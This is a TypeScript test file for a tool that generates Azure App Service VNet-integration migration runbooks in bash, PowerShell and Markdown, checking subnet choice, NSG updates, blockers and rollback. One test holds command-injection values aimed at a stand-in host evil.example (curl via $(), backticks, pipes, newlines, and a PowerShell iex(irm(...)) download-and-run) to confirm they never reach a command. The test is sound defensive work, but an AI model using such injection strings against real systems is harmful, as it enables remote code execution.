/**
 * The runbook builder as a pure function: which subnet it picks, what blocks, and that values from
 * outside (ARM, answers files) reach a command only when they pass their rule, else as a listed blank.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildFlowSetFromParsed } from '../../src/engine/load.ts';
import { shippedFlowFiles } from '../../src/flows/shipped-flow-files.ts';
import type { FactValue } from '../../src/engine/types.ts';
import { buildRunbook, type ValuedStep } from '../../src/migrate/build-runbook.ts';
import { chooseSubnet } from '../../src/migrate/subnet-choice.ts';
import { commandFor } from '../../src/migrate/render-steps.ts';
import { runbookToBash } from '../../src/migrate/render-bash.ts';
import { runbookToMarkdown } from '../../src/migrate/render-markdown.ts';
import { runbookToPowerShell } from '../../src/migrate/render-powershell.ts';
import type { PoolRule, RunbookFact, RunbookInput } from '../../src/migrate/runbook-types.ts';
import { rulesNamingPool } from '../../src/facts/pool-rules.ts';
import { bashSyntaxError, runScript } from './script-run.ts';

const catalogue = buildFlowSetFromParsed(shippedFlowFiles()).flowSet!.facts;
const APP_ID = '/subscriptions/8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33/resourceGroups/rg-web/providers/Microsoft.Web/sites/shop-api';

const SAME_REGION: Record<string, FactValue> = {
  'app.name': 'shop-api', 'app.resourceGroup': 'rg-web', 'app.subscriptionId': '8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33', 'app.location': 'West Europe',
  'app.integrationType': 'gateway-required', 'app.vnetName': 'vnet-shop', 'app.vnetResourceGroup': 'rg-net', 'app.vnetSubscriptionId': '8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33',
  'vnet.name': 'vnet-shop', 'vnet.location': 'westeurope', 'vnet.crossRegion': false, 'vnet.isClassic': false, 'vnet.hasIpv6': false,
  'vnet.resourceId': '/subscriptions/8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet-shop',
  'migration.swiftSupported': true, 'migration.hasFreeSubnet': true, 'migration.freeSubnetName': 'snet-apps', 'migration.freeSubnetPrefix': '10.20.4.0/26',
  'migration.freeSubnetLength': 26, 'migration.freeSubnetTooSmall': false, 'migration.freeSubnetDelegated': false, 'migration.requiredPrefix': 27,
  'migration.newSubnetName': 'snet-appservice', 'migration.newSubnetPrefix': '10.20.9.0/26', 'migration.serviceEndpointPolicies': false,
  'plan.name': 'plan-shop', 'plan.resourceGroup': 'rg-web', 'plan.overRegionalLimit': false, 'plan.vnetCount': 1,
  'p2s.addressPool': ['172.16.50.0/24'], 'gateway.exists': true, 'gateway.name': 'gw-shop', 'gateway.resourceGroup': 'rg-net', 's2s.exists': false,
  'integration.daysUntilRetirement': 200,
};

const facts = (values: Record<string, FactValue>): Record<string, RunbookFact> =>
  Object.fromEntries(Object.entries(values).map(([key, value]) => [key, { value, source: 'arm', detail: `test ${key}` }]));

const RULE: PoolRule = { nsg: 'nsg-db', resourceGroup: 'rg-net', subscriptionId: '8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33', rule: 'allow-vpn-sql', id: '/subscriptions/8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33/resourceGroups/rg-net/providers/Microsoft.Network/networkSecurityGroups/nsg-db/securityRules/allow-vpn-sql', priority: 300, direction: 'Inbound', access: 'Allow', sourcePrefixes: ['172.16.50.0/24'], subnets: ['snet-db'] };

function input(values: Record<string, FactValue>, more: Partial<RunbookInput> = {}): RunbookInput {
  return {
    appId: APP_ID, facts: facts(values), catalogue, findings: [], poolRules: { ok: true, value: [RULE] }, slots: { ok: true, value: [] },
    today: '2026-09-12', origin: 'a test', version: '0.0.0-test', ...more,
  };
}

const steps = (runbook: ReturnType<typeof buildRunbook>) => runbook.sections.flatMap((section) => section.steps as readonly ValuedStep[]);
const commands = (runbook: ReturnType<typeof buildRunbook>, shell: 'bash' | 'powershell' = 'bash') =>
  steps(runbook).flatMap((step) => { const rendered = commandFor(runbook, step, shell); return rendered ? [rendered] : []; });

test('a free subnet of the VNet that is big enough is used, and delegated first when it is not yet', () => {
  const runbook = buildRunbook(input(SAME_REGION));
  assert.equal(runbook.subnet.mode, 'existing');
  assert.equal(runbook.subnet.prefix, '10.20.4.0/26');
  assert.deepEqual(runbook.blockers, []);
  const all = commands(runbook).map((rendered) => rendered.command);
  assert.ok(all.includes('az network vnet subnet update -g rg-net --vnet-name vnet-shop -n snet-apps --delegations Microsoft.Web/serverFarms --subscription 8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33'), all.join('\n'));
  assert.ok(all.includes('az network nsg rule update -g rg-net --nsg-name nsg-db -n allow-vpn-sql --source-address-prefixes 172.16.50.0/24 10.20.4.0/26 --subscription 8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33'));
  // The clean-up drops the pool and keeps the subnet.
  assert.ok(all.includes('az network nsg rule update -g rg-net --nsg-name nsg-db -n allow-vpn-sql --source-address-prefixes 10.20.4.0/26 --subscription 8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33'));
  // No site-to-site, no ExpressRoute, no transit: the gateway can go.
  assert.ok(all.includes('az network vnet-gateway delete -g rg-net -n gw-shop --subscription 8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33'));
});

test('a free subnet too small for twice the plan\'s largest scale, or shared while under /26, gives way to a new subnet', () => {
  assert.equal(chooseSubnet(facts({ ...SAME_REGION, 'migration.freeSubnetPrefix': '10.20.4.0/28', 'migration.freeSubnetLength': 28 })).mode, 'new-subnet');
  assert.equal(chooseSubnet(facts({ ...SAME_REGION, 'migration.freeSubnetPrefix': '10.20.4.0/27', 'migration.freeSubnetLength': 27, 'migration.freeSubnetInUse': true })).mode, 'new-subnet');
  assert.equal(chooseSubnet(facts({ ...SAME_REGION, 'migration.freeSubnetInUse': true })).mode, 'existing', 'a shared /26 is allowed');
  const created = buildRunbook(input({ ...SAME_REGION, 'migration.hasFreeSubnet': false }));
  assert.equal(created.subnet.prefix, '10.20.9.0/26');
  assert.ok(commands(created).some((rendered) => rendered.command.startsWith('az network vnet subnet create -g rg-net --vnet-name vnet-shop -n snet-appservice --address-prefixes 10.20.9.0/26 --delegations Microsoft.Web/serverFarms')));
});

test('a VNet in another region gives a new VNet in the app\'s region, peered both ways, and the gateway stays for the transit', () => {
  const runbook = buildRunbook(input({
    ...SAME_REGION, 'vnet.crossRegion': true, 'vnet.location': 'northeurope', 'migration.newVnetName': 'vnet-shop-westeurope', 'migration.newVnetRange': '10.0.0.0/24',
    'migration.newVnetSubnetPrefix': '10.0.0.0/26', 'migration.newVnetId': '/subscriptions/8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33/resourceGroups/rg-web/providers/Microsoft.Network/virtualNetworks/vnet-shop-westeurope',
    'migration.newPeeringName': 'to-vnet-shop-westeurope', 'migration.backPeeringName': 'to-vnet-shop',
  }));
  assert.equal(runbook.subnet.mode, 'new-vnet');
  assert.equal(runbook.preflight.find((check) => check.id === 'same-region')!.status, 'action');
  const all = commands(runbook).map((rendered) => rendered.command);
  assert.ok(all.some((command) => command.includes('--allow-gateway-transit')) && all.some((command) => command.includes('--use-remote-gateways')));
  assert.ok(!all.some((command) => command.startsWith('az network vnet-gateway delete')), 'the peering uses the gateway');
});

test('a failing preflight check blocks: listed in the runbook, and --apply stops before any command', () => {
  const runbook = buildRunbook(input({ ...SAME_REGION, 'vnet.isClassic': true }));
  assert.deepEqual(runbook.blockers, ['vnet-shop is a Resource Manager VNet: classic VNet']);
  assert.match(runbookToMarkdown(runbook), /\*\*Not ready:\*\* vnet-shop is a Resource Manager VNet: classic VNet/);
  const run = runScript(runbookToBash(runbook), ['--apply']);
  assert.equal(run.status, 3);
  assert.deepEqual(run.azCalls, []);
});

test('an unknown fact is unknown in the preflight, with the reason it could not be read', () => {
  const given = input(SAME_REGION);
  const runbook = buildRunbook({ ...given, facts: { ...given.facts, 'migration.swiftSupported': { value: null, source: 'unknown', detail: 'ARM 403 Forbidden' } } });
  const check = runbook.preflight.find((candidate) => candidate.id === 'plan-supports-regional')!;
  assert.equal(check.status, 'unknown');
  assert.equal(check.provenance, 'not read: ARM 403 Forbidden');
  assert.deepEqual(runbook.blockers, []);
});

test('NSG rules that could not be read are named with the reason, and a command lists them', () => {
  const runbook = buildRunbook(input(SAME_REGION, { poolRules: { ok: false, reason: 'ARM 403 AuthorizationFailed' } }));
  const section = runbook.sections.find((candidate) => candidate.id === 'sources')!;
  assert.ok(section.notes.some((note) => note.includes('ARM 403 AuthorizationFailed')));
  assert.ok(section.steps.some((step) => step.command?.startsWith('az network nsg list')));
});

const PAYLOAD = /evil\.example|curl|iex/;
const HOSTILE: Record<string, FactValue> = {
  ...SAME_REGION,
  'app.resourceGroup': 'rg$(curl evil.example)',
  'app.name': "shop'; curl evil.example; '",
  'vnet.name': 'vnet`curl evil.example`',
  'migration.freeSubnetName': 'snet|curl evil.example',
  'app.subscriptionId': "8f2e0c4a'; iex(irm('http://evil.example/p')); '",
  'gateway.name': 'gw\ncurl evil.example',
  'p2s.addressPool': ['172.16.50.0/24'],
};

test('hostile values never reach a command in any of the three outputs: each becomes a listed blank', () => {
  const runbook = buildRunbook(input(HOSTILE, { poolRules: { ok: true, value: [{ ...RULE, nsg: 'nsg$(curl evil.example)', rule: "r'; iex(irm('http://evil.example/p'))" }] } }));
  for (const shell of ['bash', 'powershell'] as const) {
    for (const rendered of commands(runbook, shell)) {
      assert.doesNotMatch(rendered.command, PAYLOAD, rendered.command);
      assert.doesNotMatch(rendered.command, /[\n\r]/);
    }
  }
  assert.ok(commands(runbook).some((rendered) => rendered.blanks.some((blank) => blank.startsWith('app resource group'))));
  const bash = runbookToBash(runbook);
  assert.equal(bashSyntaxError(bash), undefined);
  // The texts (not commands) may quote the value; the script shows them only as single-quoted words.
  const run = runScript(bash, ['--apply']);
  assert.equal(run.status, 3, 'stops at the first command with a blank');
  assert.ok(run.azCalls.every((call) => !call.some((arg) => PAYLOAD.test(arg))), JSON.stringify(run.azCalls));
  const powershell = runbookToPowerShell(runbook);
  for (const match of powershell.matchAll(/^Invoke-Step '(?:[^']|'')*' \{ (.*) \}$/gm)) assert.doesNotMatch(match[1]!, PAYLOAD);
});

test('only inbound rules naming an address of the pool are picked, tags and other ranges are not', () => {
  const rules = rulesNamingPool({
    securityRules: [
      { name: 'vnet', priority: 100, direction: 'Inbound', access: 'Allow', sourceAddressPrefix: 'VirtualNetwork' },
      { name: 'pool-host', priority: 110, direction: 'Inbound', access: 'Allow', sourceAddressPrefixes: ['172.16.50.7'] },
      { name: 'other', priority: 120, direction: 'Inbound', access: 'Allow', sourceAddressPrefix: '10.1.0.0/16' },
      { name: 'wide', priority: 130, direction: 'Inbound', access: 'Deny', sourceAddressPrefix: '172.16.0.0/12' },
      { name: 'outbound', priority: 140, direction: 'Outbound', access: 'Allow', sourceAddressPrefix: '172.16.50.0/24' },
    ],
  }, ['172.16.50.0/24']);
  assert.deepEqual(rules.map((match) => match.rule.name), ['pool-host', 'wide']);
});

test('a new subnet stays clear of a point-to-site pool, peer or on-premises range that sits inside the VNet\'s space', () => {
  const choice = chooseSubnet(facts({
    ...SAME_REGION, 'migration.hasFreeSubnet': false, 'vnet.addressSpace': ['10.20.0.0/16'], 'vnet.subnetPrefixes': ['10.20.0.0/24'],
    'p2s.addressPool': ['10.20.1.0/24'], 'onprem.prefixes': ['10.20.2.0/25'], 'migration.requiredPrefix': 27,
  }));
  assert.equal(choice.mode, 'new-subnet');
  assert.equal(choice.prefix, '10.20.2.128/26', 'after the subnet, the pool and the on-premises range');
});

test('a function app (site kind functionapp) gets az functionapp for every command of its own, in bash and PowerShell; a web app keeps az webapp', () => {
  for (const shell of ['bash', 'powershell'] as const) {
    const app = commands(buildRunbook(input({ ...SAME_REGION, 'app.isFunctionApp': true })), shell).map((rendered) => rendered.command);
    const own = app.filter((command) => / (webapp|functionapp) /.test(command));
    assert.ok(own.length >= 5, own.join('\n'));
    assert.deepEqual(own.filter((command) => !command.startsWith('az functionapp ')), [], `${shell}: no webapp command for a function app`);
    assert.ok(own.some((command) => command.startsWith('az functionapp vnet-integration add ')), own.join('\n'));
  }
  const web = commands(buildRunbook(input(SAME_REGION))).map((rendered) => rendered.command).filter((command) => / (webapp|functionapp) /.test(command));
  assert.ok(web.length >= 5 && web.every((command) => command.startsWith('az webapp ')), web.join('\n'));
});

test('on an Elastic Premium plan the rollback says the old connection cannot be made again and offers no reconnect', () => {
  const runbook = buildRunbook(input({ ...SAME_REGION, 'app.isFunctionApp': true, 'plan.tier': 'ElasticPremium' }));
  const rollback = runbook.sections.find((section) => section.id === 'rollback')!;
  assert.match(rollback.notes.join(' '), /Elastic Premium tier, which offers regional integration only: once the gateway-required connection to vnet-shop is removed it cannot be made again/);
  assert.deepEqual(rollback.steps.map((step) => step.kind), ['az']);
  const standard = buildRunbook(input(SAME_REGION)).sections.find((section) => section.id === 'rollback')!;
  assert.deepEqual(standard.steps.map((step) => step.kind), ['az', 'portal'], 'a dedicated plan reconnects in the portal');
});
